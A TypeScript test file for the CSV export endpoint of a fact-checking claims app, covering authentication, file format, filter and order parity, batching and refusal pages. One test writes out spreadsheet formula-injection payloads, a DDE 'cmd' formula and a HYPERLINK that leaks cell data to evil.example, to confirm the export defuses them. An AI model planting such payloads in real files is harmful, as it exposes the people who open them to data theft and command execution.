import { parse } from 'csv-parse/sync';
import { EXPORT_BATCH } from '../../server/claims/export-repository';
import { fixtureSpeaker, insertArticleWithClaims } from '../support/claims-fixtures';
import { claimForm, signedIn } from '../support/claims-http';
import { createUser, csrfFrom, getTestDb, newAgent, testApp, type Agent } from '../support';

const db = getTestDb();
const tag = `zx${Date.now().toString(36)}`;
const ids = (html: string) => [...html.matchAll(/<td><a href="\/claims\/(\d+)">/g)].map((m) => Number(m[1]));
const unescape = (s: string) => s.replaceAll('&amp;', '&').replaceAll('&#34;', '"').replaceAll('&#39;', "'");

/** Every claim the list shows for a query, page after page through its Next links. */
async function listed(agent: Agent, query: string): Promise<number[]> {
  const seen: number[] = [];
  for (let url: string | null = `/claims?${query}`; url;) {
    const res = await agent.get(url);
    expect(res.status).toBe(200);
    seen.push(...ids(res.text));
    url = /href="([^"]+)" rel="next"/.exec(res.text)?.[1]?.replaceAll('&amp;', '&') ?? null;
  }
  return seen;
}

/** The response with its body as the bytes sent (a CSV file, or the page refusing one). */
async function download(agent: Agent, url: string) {
  const res = await agent.get(url).buffer(true).parse((stream, done) => {
    const chunks: Buffer[] = [];
    stream.on('data', (c: Buffer) => chunks.push(c));
    stream.on('end', () => done(null, Buffer.concat(chunks)));
  });
  const bytes = res.body as Buffer;
  return { res, bytes, text: bytes.toString('utf8') };
}

type Row = Record<string, string>;
async function exported(agent: Agent, query: string): Promise<Row[]> {
  const { res, bytes } = await download(agent, `/claims/export?${query}`);
  expect([query, res.status, res.headers['content-type']]).toEqual([query, 200, 'text/csv; charset=utf-8']);
  return parse(bytes, { bom: true, columns: true }) as Row[];
}
const exportedIds = async (agent: Agent, query: string) => (await exported(agent, query)).map((r) => Number(r['Claim ID']));

/** `n` claims of one article in one statement, by three speakers (one of them none), last changed seven at a time. */
async function bulkArticle(userId: number, n: number) {
  const { articleId } = await insertArticleWithClaims(db, userId, `Bulk article ${tag}`, [], `Bulk ${tag}`);
  const speakers = [`Émile Bulk ${tag}`, `anna Bulk ${tag}`];
  const speakerIds = await Promise.all(speakers.map((name) => fixtureSpeaker(db, name)));
  const { rows } = await db.raw<{ rows: { id: number }[] }>(
    `INSERT INTO claims (article_id, position, start_offset, end_offset, quote, kind, confidence, speaker_id, speaker_name, status, updated_at)
     SELECT ?, g, 0, 1, 'bulk claim ' || g || ' ${tag}', 'direct', 0.9, (ARRAY[?, ?, NULL]::bigint[])[g % 3 + 1], (ARRAY[?, ?, NULL]::text[])[g % 3 + 1],
            (ARRAY['unreviewed', 'verified', 'disputed'])[g % 4 % 3 + 1], timestamptz '2026-01-01 00:00:00+00' + (g / 7) * interval '1 second'
       FROM generate_series(0, ? - 1) AS g
     RETURNING id`,
    [articleId, ...speakerIds, ...speakers, n],
  );
  return { articleId, claimIds: rows.map((r) => r.id).sort((a, b) => a - b) };
}

async function removeArticle(agent: Agent, articleId: number, note: string) {
  const page = await agent.get(`/articles/${articleId}`);
  const version = /name="version" value="(\d+)"/.exec(page.text.slice(page.text.indexOf(`action="/articles/${articleId}/remove"`)))![1]!;
  expect((await agent.post(`/articles/${articleId}/remove`).type('form').send({ _csrf: csrfFrom(page.text), version, note })).status).toBe(303);
}

describe('GET /claims/export', () => {
  test('when nobody is signed in, then the export sends to sign in as the list does, and the file comes once signed in', async () => {
    const agent = newAgent(testApp());
    const list = await agent.get('/claims?status=verified');
    const file = await agent.get('/claims/export?status=verified');
    expect([file.status, file.headers.location]).toEqual([list.status, '/login?next=%2Fclaims%2Fexport%3Fstatus%3Dverified']);
    expect(list.headers.location).toMatch(/^\/login/);
    expect(file.headers['content-disposition']).toBeUndefined();

    const { user, password } = await createUser(db, { role: 'fact_checker' });
    const login = await agent.get(file.headers.location!);
    const signedInNow = await agent.post('/login').type('form').send({ _csrf: csrfFrom(login.text), email: user.email, password, next: '/claims/export?status=verified' });
    expect([signedInNow.status, signedInNow.headers.location]).toEqual([303, '/claims/export?status=verified']);
    expect((await download(agent, signedInNow.headers.location!)).res.headers['content-type']).toBe('text/csv; charset=utf-8');
  });

  test('when a fact-checker asks, then a UTF-8 CSV with a byte order mark, a header row and CRLF comes as a dated attachment, never cached', async () => {
    const { agent, userId } = await signedIn('fact_checker');
    const { articleId, claimIds } = await insertArticleWithClaims(db, userId, `"first ${tag}" and "second ${tag}"`, [{ quote: `first ${tag}` }, { quote: `second ${tag}` }]);

    const { res, bytes, text } = await download(agent, `/claims/export?article=${articleId}&sort=article&dir=asc`);

    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="verbatim-claims-${new Date().toISOString().slice(0, 10)}.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = text.slice(1).split('\r\n');
    expect(lines[0]).toBe('Claim ID,Claim link,Article ID,Article title,Outlet,Published,Quote,Kind,Speaker,Speaker ID,Speaker as written,Source,Status,Attribution,' +
      'Confidence (%),Speaker uncertain,Assigned to,Verdict note,Evidence links,Verdict by,Verdict at (UTC),Last change (UTC)');
    expect(lines.slice(1)).toEqual([expect.stringMatching(new RegExp(`^${claimIds[0]},http://127\\.0\\.0\\.1:\\d+/claims/${claimIds[0]},${articleId},Fixture article,Fixture Times,,first ${tag},direct,`)),
      expect.stringMatching(new RegExp(`^${claimIds[1]},`)), '']);
  });

  test('when filters, a search and an order are given, then the file holds the claims of every list page, in the list’s order', async () => {
    const { agent, userId } = await signedIn();
    const quotes = Array.from({ length: 120 }, (_, i) => `statement ${i} about ${i % 2 ? 'harvests' : 'fisheries'} ${tag}`);
    const { articleId, speakerIds } = await insertArticleWithClaims(db, userId, quotes.map((q) => `"${q}"`).join('\n\n'), quotes.map((quote, i) => ({
      quote, speaker: [`Zoe Order ${tag}`, `émile Order ${tag}`, `Anna Order ${tag}`][i % 3]!, source: i % 5 ? null : `Wire ${tag}`,
      status: (['unreviewed', 'verified', 'disputed'] as const)[i % 3]!, assigneeId: i % 4 ? null : userId,
    })));
    await db('claims').where({ article_id: articleId }).update({ updated_at: db.raw(`timestamptz '2026-02-01' + (position % 9) * interval '1 minute'`) });
    const queries = [
      '', 'sort=article&dir=asc', 'sort=speaker', 'sort=speaker&dir=desc', 'sort=status', 'sort=status&dir=desc', 'status=verified',
      `source=${encodeURIComponent(`Wire ${tag}`)}`, `speaker=${speakerIds[`émile Order ${tag}`]}&sort=article`, 'assignee=me', 'assignee=nobody&sort=speaker',
      'attribution=proposed&dir=asc', `q=harvests`, `q=${encodeURIComponent('"about fisheries"')}&sort=article&dir=asc`, `q=${encodeURIComponent('statement -harvests')}`,
    ].map((q) => `article=${articleId}${q ? `&${q}` : ''}`);

    for (const query of queries) {
      const list = await listed(agent, query);
      expect(list.length).toBeGreaterThan(0);
      expect({ query, ids: await exportedIds(agent, query) }).toEqual({ query, ids: list });
    }
    expect((await listed(agent, queries[0]!)).length).toBe(120);
  });

  test('when a list holds more claims than one batch, then the file holds each exactly once, in the list’s order, ties on the order included', async () => {
    const { agent, userId } = await signedIn();
    const { articleId, claimIds } = await bulkArticle(userId, EXPORT_BATCH + 37);

    for (const query of [`article=${articleId}`, `article=${articleId}&sort=speaker`]) {
      const file = await exportedIds(agent, query);
      expect(file.length).toBe(EXPORT_BATCH + 37);
      expect([...file].sort((a, b) => a - b)).toEqual(claimIds);
      expect(file).toEqual(await listed(agent, query));
    }
  }, 60_000);

  test('when quotes, names and notes hold formulas, quotation marks, commas, line breaks, emoji and right-to-left text, then they read back whole, formulas defused', async () => {
    const editor = await signedIn('editor', `=cmd|' /C calc'!A0 ${tag}`);
    const hostile = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
      `He said, "no", then:\nwe wait ${tag}`,
      `- We will not go, he said ${tag}`,
      `@SUM(1+1) 🚢 naïve — אנחנו נבנה מחדש ${tag}`,
      `${'A very long quote that the list shortens. '.repeat(8)}${tag}`,
    ];
    const { articleId, claimIds } = await insertArticleWithClaims(db, editor.userId, hostile.map((q) => `«${q}»`).join('\n\n'),
      hostile.map((quote, i) => ({ quote, speaker: i === 0 ? `+Mallory ${tag}` : `شيرين أبو عاقلة ${tag}` })), `=1+1 "Title", with commas ${tag}`);
    await db('articles').where({ id: articleId }).update({ outlet: '@Outlet', published_at: '2026-11-30T00:00:00Z' });
    const note = '=2+2 is "disputed", see:\nthe record';
    const form = await claimForm(editor.agent, claimIds[0]!);
    const verdict = await editor.agent.post(`/claims/${claimIds[0]}/verdict`).type('form')
      .send({ ...form, status: 'disputed', note, evidence_url: 'https://example.org/a\nhttps://example.org/b' });
    expect(verdict.status).toBe(303);

    const rows = await exported(editor.agent, `article=${articleId}&sort=article&dir=asc`);

    expect(rows.map((r) => r['Quote'])).toEqual([`'${hostile[0]}`, hostile[1], `'${hostile[2]}`, `'${hostile[3]}`, hostile[4]]);
    expect(rows[0]).toMatchObject({
      'Claim link': expect.stringMatching(new RegExp(`^http://127\\.0\\.0\\.1:\\d+/claims/${claimIds[0]}$`)), 'Article title': `'=1+1 "Title", with commas ${tag}`, Outlet: "'@Outlet", Published: '2026-11-30',
      Speaker: `'+Mallory ${tag}`, Status: 'Disputed', 'Assigned to': '', 'Verdict note': `'${note}`, 'Evidence links': 'https://example.org/a\nhttps://example.org/b',
      'Verdict by': `'=cmd|' /C calc'!A0 ${tag}`, 'Verdict at (UTC)': expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
    });
    expect(rows[1]).toMatchObject({ Speaker: `شيرين أبو عاقلة ${tag}`, Status: 'Unreviewed', 'Verdict note': '', 'Verdict by': '' });
  });

  test('when the list would show a notice, then nothing is downloaded: the page says why in the list’s words and links to the list', async () => {
    const editor = await signedIn('editor', `Eddie Exporter ${tag}`);
    const { articleId } = await insertArticleWithClaims(db, editor.userId, `"we will ${tag}"`, [{ quote: `we will ${tag}` }], `Pier ${tag}`);

    const ignored = await download(editor.agent, `/claims/export?article=${articleId}&status=everything`);
    expect(ignored.res.status).toBe(422);
    expect(ignored.res.headers['content-disposition']).toBeUndefined();
    expect(unescape(ignored.text)).toContain('Ignored the status “everything”: it is not one of the statuses the list offers.');
    expect(ignored.text).toContain(`<a href="/claims?article=${articleId}&amp;status=everything">Open the list with these filters</a>`);
    expect(ignored.text).toContain(`<a href="/claims/export?article=${articleId}">Download the claims the list shows, without what it ignored (CSV)</a>`);

    const walked = await download(editor.agent, `/claims/export?article=${articleId}&q=${encodeURIComponent('"we will" OR "they might"')}`);
    expect(walked.res.status).toBe(422);
    expect(unescape(walked.text)).toContain('The list searches only the first 4,000 claims in its order for this search');

    expect((await download(editor.agent, '/claims/export?q=the+and+of')).res.status).toBe(422);
    const nowhere = await download(editor.agent, '/claims/export?article=987654321');
    expect([nowhere.res.status, nowhere.text.includes('No article has the number 987654321')]).toEqual([404, true]);

    await removeArticle(editor.agent, articleId, 'Imported twice.');
    const removed = await download(editor.agent, `/claims/export?article=${articleId}`);
    expect(removed.res.status).toBe(410);
    expect(unescape(removed.text)).toContain(`Article #${articleId} “Pier ${tag}” was removed by Eddie Exporter ${tag} on ${new Date().toISOString().slice(0, 10)}, with its claims (“Imported twice.”)`);
  });

  test('when a speaker was merged into another, then the file is refused with a link to the kept speaker’s claims', async () => {
    const { agent, userId } = await signedIn();
    const { speakerIds } = await insertArticleWithClaims(db, userId, `"merged words ${tag}"`, [{ quote: `merged words ${tag}`, speaker: `Old Name ${tag}` }]);
    const kept = await fixtureSpeaker(db, `Kept Name ${tag}`);
    const old = speakerIds[`Old Name ${tag}`]!;
    await db('speakers').where({ id: old }).update({ merged_into_id: kept });

    const { res, text } = await download(agent, `/claims/export?speaker=${old}&sort=speaker`);

    expect(res.status).toBe(410);
    expect(unescape(text)).toContain(`Old Name ${tag} (#${old}) was merged into Kept Name ${tag} (#${kept})`);
    expect(text).toContain(`<a href="/claims/export?speaker=${kept}&amp;sort=speaker">`);
  });

  test('when a page link’s position comes along, then the file still holds every page', async () => {
    const { agent, userId } = await signedIn();
    const quotes = Array.from({ length: 60 }, (_, i) => `paged ${i} ${tag}`);
    const { articleId, claimIds } = await insertArticleWithClaims(db, userId, quotes.map((q) => `"${q}"`).join('\n'), quotes.map((quote) => ({ quote })));
    const first = await agent.get(`/claims?article=${articleId}&sort=article&dir=asc`);
    const next = unescape(/href="([^"]+)" rel="next"/.exec(first.text)![1]!);

    expect(await exportedIds(agent, next.replace('/claims?', ''))).toEqual(claimIds);
  });

  test('when the list is shown, then a plain link near its count downloads these claims with its filters and order, leaving out what it ignored', async () => {
    const { agent, userId } = await signedIn();
    const { articleId, claimIds } = await insertArticleWithClaims(db, userId, `"linked one ${tag}" "linked two ${tag}"`, [{ quote: `linked one ${tag}` }, { quote: `linked two ${tag}` }]);

    const page = await agent.get(`/claims?q=linked&article=${articleId}&sort=article&dir=asc&status=nonsense`);

    const link = /<p class="export-link"><a href="([^"]+)">Download these claims \(CSV\)<\/a><\/p>/.exec(page.text);
    expect(unescape(link![1]!)).toBe(`/claims/export?q=linked&article=${articleId}&sort=article&dir=asc`);
    expect(page.text.indexOf('class="export-link"')).toBeGreaterThan(page.text.indexOf('class="matching"'));
    expect(await exportedIds(agent, unescape(link![1]!).split('?')[1]!)).toEqual(claimIds);
    expect((await agent.get('/claims')).text).toContain('<a href="/claims/export">Download these claims (CSV)</a>');
  });
});
